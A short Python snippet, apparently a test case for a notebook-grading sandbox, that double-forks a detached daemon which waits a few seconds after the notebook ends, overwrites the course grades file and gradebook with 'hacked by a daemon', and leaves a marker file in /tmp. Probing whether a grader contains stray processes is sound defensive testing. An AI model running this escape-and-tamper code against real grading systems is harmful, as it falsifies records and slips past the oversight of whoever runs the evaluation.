# Fork a daemon that acts after the notebook ended: it rewrites grades a few seconds later.
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(4)
        for path in ["@COURSE@/grades.csv", "@GRADEBOOK@"]:
            try:
                open(path, "w").write("hacked by a daemon")
            except Exception:
                pass
        open("/tmp/daemon-was-here", "w").write("x")
        os._exit(0)
    os._exit(0)
